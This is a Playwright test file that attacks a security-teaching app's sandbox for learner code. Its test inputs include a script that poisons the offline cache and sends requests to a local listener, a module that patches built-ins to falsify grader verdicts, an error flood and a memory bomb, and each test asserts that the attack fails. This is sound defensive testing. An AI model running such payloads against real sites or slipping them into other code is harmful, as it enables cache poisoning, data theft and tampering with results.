/**
 * The sandbox for learner-supplied code (src/platform/sandbox/), attacked as a link would attack
 * it, on the preview server (which sends a CSP and COOP/COEP) and on a static host that sends no
 * header at all (python3 -m http.server over dist/), where only what the app carries in its files
 * protects it.
 */
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { deflateRawSync } from 'node:zlib';
import {
  chromium,
  type Browser,
  type BrowserContext,
  type BrowserContextOptions,
  type Page,
} from '@playwright/test';
import { test, expect } from './fixtures';
import { startStaticHost } from './static-host';

const HOSTS = ['preview server', 'header-less static host'] as const;
type Host = (typeof HOSTS)[number];

interface App {
  origin: string;
  context: BrowserContext;
  page: Page;
  /**
   * Every response any page, frame or worker of the context received (a request the browser
   * refused before sending, by policy, gets none; the listener below checks the wire itself).
   */
  responses: string[];
  /** Console errors and uncaught page errors. */
  errors: string[];
  close: () => Promise<void>;
}

async function openApp(
  browser: Browser,
  host: Host,
  baseURL: string,
  options: BrowserContextOptions = { serviceWorkers: 'block' },
): Promise<App> {
  const server = host === 'preview server' ? null : await startStaticHost();
  const origin = server ? server.origin : new URL(baseURL).origin;
  const context = await browser.newContext(options);
  const responses: string[] = [];
  const errors: string[] = [];
  context.on('response', (response) => responses.push(response.url()));
  const page = await context.newPage();
  page.on('console', (message) => message.type() === 'error' && errors.push(message.text()));
  page.on('pageerror', (error) => errors.push(error.message));
  return {
    origin,
    context,
    page,
    responses,
    errors,
    close: async () => {
      await context.close();
      server?.stop();
    },
  };
}

/** A code-lab link carrying this code, as the lab's Share section makes one. */
function codeLink(code: string, extra = ''): string {
  return `/#/code?code=1${deflateRawSync(Buffer.from(code)).toString('base64url')}${extra}`;
}

/** An HTTP listener on this machine that counts the requests it gets (none, it must be). */
async function startListener(): Promise<{ url: string; hits: string[]; stop: () => void }> {
  const hits: string[] = [];
  const server: Server = createServer((request, response) => {
    hits.push(`${request.method} ${request.url}`);
    response.setHeader('Access-Control-Allow-Origin', '*');
    response.end('stolen');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return { url: `http://127.0.0.1:${port}`, hits, stop: () => server.close() };
}

/**
 * A main-thread heartbeat: a timer every 50 ms that records the longest gap between two ticks
 * (a frozen page stretches the gap) and how many ticks there were.
 */
async function startHeartbeat(page: Page): Promise<void> {
  await page.evaluate(() => {
    const beat = { ticks: 0, last: performance.now(), longestGap: 0 };
    (window as unknown as { heartbeat: typeof beat }).heartbeat = beat;
    window.setInterval(() => {
      const now = performance.now();
      beat.longestGap = Math.max(beat.longestGap, now - beat.last);
      beat.last = now;
      beat.ticks++;
    }, 50);
  });
}

function readHeartbeat(page: Page) {
  return page.evaluate(
    () => (window as unknown as { heartbeat: { ticks: number; longestGap: number } }).heartbeat,
  );
}

/** The service worker's caches: every entry's address and a hash of its body. */
function cacheContents(page: Page): Promise<string[]> {
  return page.evaluate(async () => {
    const out: string[] = [];
    for (const name of (await caches.keys()).sort()) {
      const cache = await caches.open(name);
      for (const request of await cache.keys()) {
        const body = await (await cache.match(request))!.arrayBuffer();
        const digest = new Uint8Array(await crypto.subtle.digest('SHA-256', body));
        out.push(`${name} ${request.url} ${Array.from(digest, (b) => b.toString(16)).join('')}`);
      }
    }
    return out.sort();
  });
}

/** What a link's "JSON" can try: rewrite the offline cache, phone home, store, reach the page. */
function poison(listener: string, origin: string): string {
  return `(async () => {
  const out = [];
  const attempt = async (name, run) => {
    try { out.push(name + ': ' + String(await run()).slice(0, 40)); }
    catch (error) { out.push(name + ' failed'); }
  };
  await attempt('caches', async () => {
    for (const key of await caches.keys()) {
      const cache = await caches.open(key);
      for (const request of await cache.keys())
        await cache.put(request, new Response('alert("pwned")', { headers: { 'Content-Type': 'text/javascript' } }));
    }
    await (await caches.open('security-playground-evil')).put('./index.html', new Response('pwned'));
    return 'rewritten';
  });
  await attempt('fetch', () => fetch('${listener}/fetch').then((r) => r.text()));
  await attempt('fetch with headers', () => fetch('${listener}/headers', { method: 'POST', headers: { 'X-Steal': '1' }, body: 'x' }).then((r) => r.text()));
  await attempt('fetch no-cors', () => fetch('${listener}/no-cors', { mode: 'no-cors' }).then((r) => r.type));
  await attempt('fetch same origin', () => fetch('/index.html').then((r) => r.status));
  await attempt('import', () => import('${listener}/import.js'));
  await attempt('import same origin', () => import('${origin}/sw.js'));
  await attempt('importScripts', () => importScripts('${listener}/import-scripts.js'));
  await attempt('WebSocket', () => new WebSocket('${listener.replace('http', 'ws')}/ws'));
  await attempt('EventSource', () => new EventSource('${listener}/events'));
  await attempt('indexedDB', () => new Promise((resolve, reject) => { const r = indexedDB.open('evil'); r.onsuccess = () => resolve('opened'); r.onerror = () => reject(r.error); }));
  await attempt('OPFS', async () => (await navigator.storage.getDirectory()).getFileHandle('evil', { create: true }));
  await attempt('serviceWorker', () => navigator.serviceWorker.register('/sw.js'));
  await attempt('parent', () => parent.postMessage({ type: 'security-playground:height', height: 1 }, '*'));
  await attempt('top', () => top.postMessage('x', '*'));
  await attempt('postMessage', () => postMessage({ id: 1, kind: 'done', data: 'fake' }));
  return out.join(' | ');
})()`;
}

for (const host of HOSTS) {
  test.describe(`on the ${host}`, () => {
    test('a poisoning “JSON” link leaves the offline cache unchanged and makes no request', async ({
      browser,
      baseURL,
    }) => {
      const listener = await startListener();
      const app = await openApp(browser, host, baseURL!, { serviceWorkers: 'allow' });
      try {
        const { page, origin } = app;
        await page.goto(`${origin}/#/untrusted-data`);
        // The service worker has cached the app and controls the page (on the static host it
        // also reloads the page once, to add the isolation headers).
        await expect
          .poll(
            () =>
              page
                .evaluate(async () => {
                  const registration = await navigator.serviceWorker.ready;
                  return (
                    registration.active !== null &&
                    navigator.serviceWorker.controller !== null &&
                    window.crossOriginIsolated
                  );
                })
                .catch(() => false),
            { timeout: 30_000 },
          )
          .toBe(true);
        const section = page.getByRole('region', { name: 'JSON builds data; eval runs code' });
        await expect(section.getByRole('button', { name: 'Parse it both ways' })).toBeVisible();
        const before = await cacheContents(page);
        expect(before.some((entry) => /\/assets\/index-[\w-]+\.js /.test(entry))).toBe(true);

        await page.goto(
          `${origin}/#/untrusted-data?json=${encodeURIComponent(poison(listener.url, origin))}`,
        );
        await expect(section.getByLabel('Text received as JSON')).toHaveValue(/caches\.keys/);
        const seen = app.responses.length;
        await section.getByRole('button', { name: 'Parse it both ways' }).click();
        await expect(section.getByText(/done, and the sandbox was removed/)).toBeVisible();
        const evalRow = section.getByRole('row', { name: /^eval\(text\)/ });
        // The code ran, and everything it tried failed.
        for (const attempt of [
          'caches failed',
          'fetch failed',
          'fetch with headers failed',
          'fetch no-cors failed',
          'fetch same origin failed',
          'import failed',
          'import same origin failed',
          'importScripts failed',
          'WebSocket failed',
          'EventSource failed',
          'indexedDB failed',
          'OPFS failed',
          'serviceWorker failed',
          'parent failed',
          'top failed',
          'postMessage failed',
        ])
          await expect(evalRow).toContainText(attempt);
        await expect(
          section
            .getByRole('list', { name: 'Refused calls' })
            .getByText(`fetch('${listener.url}/fetch')`),
        ).toBeVisible();

        expect(await cacheContents(page)).toEqual(before);
        // Nothing was fetched, from the cache or the network (blob: addresses are the sandbox's
        // own, in memory), and nothing reached the listener. The page's icon is the browser's own
        // request, made when it chooses (after the app has rendered, since the app renders after
        // `load`); the sandbox cannot fetch from the app's origin ('fetch same origin failed').
        const icon = `${origin}/favicon.svg`;
        expect(
          app.responses.slice(seen).filter((url) => !url.startsWith('blob:') && url !== icon),
        ).toEqual([]);
        expect(listener.hits).toEqual([]);
        expect(app.errors).toEqual([]);
      } finally {
        await app.close();
        listener.stop();
      }
    });

    test('200 uncaught errors of 1 MiB each are counted, not shown whole, and never freeze the page', async ({
      browser,
      baseURL,
    }) => {
      const app = await openApp(browser, host, baseURL!);
      try {
        const { page, origin } = app;
        await page.goto(
          origin +
            codeLink(
              // The errors are thrown as the module loads (each from its own microtask, so
              // each is uncaught); the module exports only a verify, so the report stays small
              // and what the heartbeat measures is the flood.
              `for (let i = 0; i < 200; i++)
  queueMicrotask(() => { throw new Error(i + ': ' + 'x'.repeat(1 << 20)); });
export function verify(secret: string, message: string, tag: string): boolean {
  return false;
}
`,
              // What is measured is the page, not how fast the sandbox gets through 200 MiB of
              // errors on a busy machine.
              '&limit=30',
            ),
        );
        await expect(
          page.getByText("queueMicrotask(() => { throw new Error(i + ': '"),
        ).toBeVisible();
        await startHeartbeat(page);
        await page.getByRole('button', { name: 'Run attacks' }).click();
        await expect(page.getByText('No attack could run: see why below.')).toBeVisible({
          timeout: 60_000,
        });
        const output = page.getByRole('region', { name: 'Sandbox' }).getByLabel('Console output');
        await expect(output).toContainText('[error] Uncaught Error: 0: xxxx');
        await expect(output).toContainText('[error] Uncaught Error: 99: xxxx');
        await expect(output).not.toContainText('Error: 100: ');
        // Each error is cut to a few hundred characters, the first 100 listed, the rest counted.
        expect((await output.textContent())!.length).toBeLessThan(100 * 600);
        await expect(page.getByText(/Not shown: 100 more lines of output or errors/)).toBeVisible();
        const beat = await readHeartbeat(page);
        expect(beat.ticks).toBeGreaterThan(10);
        expect(beat.longestGap).toBeLessThan(1000);
        expect(app.errors).toEqual([]);
      } finally {
        await app.close();
      }
    });

    test('a module that patches built-ins cannot change a verdict', async ({
      browser,
      baseURL,
    }) => {
      const app = await openApp(browser, host, baseURL!);
      try {
        const { page, origin } = app;
        // md5(secret + message), plus what would rewrite an in-realm report card: results
        // pushed as passes, accepted forgeries turned into rejections, a JSON that says nothing,
        // a `then` on every object.
        await page.goto(
          origin +
            codeLink(`const push = Array.prototype.push;
Array.prototype.push = function (...items: any[]) {
  for (const item of items)
    if (item && typeof item === 'object') {
      if (item.verdict === 'fail') item.verdict = 'pass';
      if (item.accepted === true) item.accepted = false;
    }
  return push.apply(this, items);
};
JSON.stringify = () => '{}';
for (const key of ['accepted', 'verdict', 'tag', 'problem', 'checkProblem'])
  Object.defineProperty(Object.prototype, key, { get: () => undefined, set() {}, configurable: true });
Object.defineProperty(Object.prototype, 'then', {
  value(resolve: (value: unknown) => void) { resolve({ verdict: 'pass' }); },
  configurable: true,
});

export function sign(secret: string, message: string): string {
  return md5(secret + message);
}
export function verify(secret: string, message: string, tag: string): boolean {
  return sign(secret, message) === tag;
}
export function makeToken(): string {
  return toHex(randomBytes(16));
}
`),
        );
        await expect(page.getByText('Array.prototype.push = function')).toBeVisible();
        await page.getByRole('button', { name: 'Run attacks' }).click();
        const report = page.getByRole('list', { name: 'Attacks' });
        await expect(
          report.getByRole('listitem', { name: 'Length extension: Fail' }),
        ).toContainText('Forged: verify accepted', { timeout: 60_000 });
        await expect(report.getByRole('listitem', { name: 'Keys per use: Fail' })).toBeVisible();
        await expect(report.getByRole('listitem', { name: 'Tampering: Pass' })).toBeVisible();
        await expect(report.getByRole('listitem', { name: 'Truncation: Pass' })).toBeVisible();
        await expect(page.getByText(/^[23] of the 6 attacks that ran got through\./)).toBeVisible();
        expect(app.errors).toEqual([]);
      } finally {
        await app.close();
      }
    });

    test('nothing the code writes (OPFS, IndexedDB, localStorage, caches) is there for a later page', async ({
      browser,
      baseURL,
    }) => {
      const app = await openApp(browser, host, baseURL!);
      try {
        const { page, origin, context } = app;
        await page.goto(
          origin +
            codeLink(`const written: string[] = [];
async function store(name: string, write: () => Promise<unknown> | unknown) {
  try {
    await write();
    written.push(name + ' written');
  } catch {
    written.push(name + ' refused');
  }
}
await store('OPFS', async () => {
  const file = await (await navigator.storage.getDirectory()).getFileHandle('learner', { create: true });
  const stream = await file.createWritable();
  await stream.write('x'.repeat(1 << 20));
  await stream.close();
});
await store('IndexedDB', () => new Promise((resolve, reject) => {
  const request = indexedDB.open('learner');
  request.onupgradeneeded = () => request.result.createObjectStore('s').put('kept', 'k');
  request.onsuccess = resolve;
  request.onerror = () => reject(request.error);
}));
await store('localStorage', () => (globalThis as any).localStorage.setItem('learner', 'kept'));
await store('caches', async () => (await caches.open('learner')).put('/learner', new Response('kept')));
console.log(written.join(', '));
export function makeToken(): string {
  return toHex(randomBytes(16));
}
`),
        );
        await page.getByRole('button', { name: 'Run attacks' }).click();
        await expect(page.getByRole('listitem', { name: 'Token prediction: Pass' })).toBeVisible({
          timeout: 60_000,
        });
        await expect(page.getByLabel('Console output')).toHaveText(
          'OPFS refused, IndexedDB refused, localStorage refused, caches refused',
        );
        const later = await context.newPage();
        await later.goto(`${origin}/#/hashes`);
        const found = await later.evaluate(async () => {
          const opfs: string[] = [];
          for await (const name of (
            (await navigator.storage.getDirectory()) as unknown as {
              keys: () => AsyncIterable<string>;
            }
          ).keys())
            opfs.push(name);
          return {
            opfs,
            indexedDB: (await indexedDB.databases()).map((d) => d.name),
            // The app's own theme choice may be there; nothing else may.
            localStorage: Object.keys(localStorage).filter((key) => !key.endsWith(':theme')),
            caches: await caches.keys(),
          };
        });
        expect(found).toEqual({ opfs: [], indexedDB: [], localStorage: [], caches: [] });
        expect(app.errors).toEqual([]);
      } finally {
        await app.close();
      }
    });

    test('a memory bomb at the highest time limit takes down only the sandbox; the page says so and runs a fresh one', async ({
      launchOptions,
      baseURL,
    }) => {
      // The sandbox's process dies; Playwright then marks the whole page as crashed (it does so
      // when any of a page's processes dies), though the page lives on. A second connection over
      // the DevTools protocol, made after the crash, sees the page as it is.
      const port = await new Promise<number>((resolve) => {
        const probe = createServer().listen(0, '127.0.0.1', () => {
          const { port } = probe.address() as AddressInfo;
          probe.close(() => resolve(port));
        });
      });
      const browser = await chromium.launch({
        ...launchOptions,
        args: [...(launchOptions.args ?? []), `--remote-debugging-port=${port}`],
      });
      const app = await openApp(browser, host, baseURL!);
      let observer: Browser | null = null;
      try {
        const { page, origin } = app;
        await page.goto(
          origin +
            codeLink(
              `const hoard: number[][] = [];
for (;;) hoard.push(new Array(1 << 20).fill(hoard.length));
export function sign(secret: string, message: string): string {
  return md5(secret + message);
}
`,
              '&limit=60',
            ),
        );
        await expect(page.getByLabel('Time limit per phase (seconds)')).toHaveValue('60');
        await startHeartbeat(page);
        const ticksBefore = (await readHeartbeat(page)).ticks;
        // The sandbox's process runs out of memory long before the 60 s limit.
        const sandboxDied = new Promise<boolean>((resolve) => {
          page.once('crash', () => resolve(true));
          setTimeout(() => resolve(false), 120_000);
        });
        await page.getByRole('button', { name: 'Run attacks' }).click();
        expect(await sandboxDied).toBe(true);

        // Connected only now, after the crash, this second view of the page is not marked as
        // crashed: what it sees is the page as it is.
        observer = await chromium.connectOverCDP(`http://127.0.0.1:${port}`);
        const live = observer
          .contexts()
          .flatMap((c) => c.pages())
          .find((p) => p.url().startsWith(`${origin}/#/code`))!;
        expect(live).toBeDefined();
        await expect(live.getByText('The sandbox crashed')).toBeVisible({ timeout: 60_000 });
        await expect(
          live.getByText(/Only the sandbox was lost; this page and its data/),
        ).toBeVisible();
        // The page's own timer kept running all along.
        const beat = await readHeartbeat(live);
        expect(beat.ticks).toBeGreaterThan(ticksBefore + 20);
        await expect
          .poll(async () => (await readHeartbeat(live)).ticks)
          .toBeGreaterThan(beat.ticks);

        // A fresh sandbox works.
        await live
          .getByLabel('Preset')
          .selectOption({ label: 'HMAC with a key per use (the fix)' });
        await live.getByLabel('Time limit per phase (seconds)').fill('5');
        await live.getByRole('button', { name: 'Run attacks' }).click();
        await expect(live.getByText('None of the 6 attacks that ran got through.')).toBeVisible({
          timeout: 45_000,
        });
      } finally {
        await observer?.close();
        await app.close();
        await browser.close();
      }
    });
  });
}
